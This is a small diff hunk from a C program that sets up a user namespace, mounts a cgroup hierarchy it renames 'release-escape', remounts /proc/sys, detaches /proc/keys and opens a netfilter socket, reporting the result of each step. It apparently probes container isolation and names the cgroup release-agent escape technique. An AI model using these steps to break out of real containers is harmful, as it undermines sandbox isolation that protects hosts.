@@ -40,7 +40,7 @@ int main(int argc, char **argv)
 	put("/proc/self/uid_map", "0 0 1");
 	put("/proc/self/gid_map", "0 0 1");
 	mkdir("/tmp/hierarchy", 0755);
-	report("mount cgroup", mount("none", "/tmp/hierarchy", "cgroup", 0, "none,name=tupper-escape"));
+	report("mount cgroup", mount("none", "/tmp/hierarchy", "cgroup", 0, "none,name=release-escape"));
 	report("remount /proc/sys", mount("none", "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
 	report("unmask", umount2("/proc/keys", MNT_DETACH));
 	report("nf_tables", socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER));
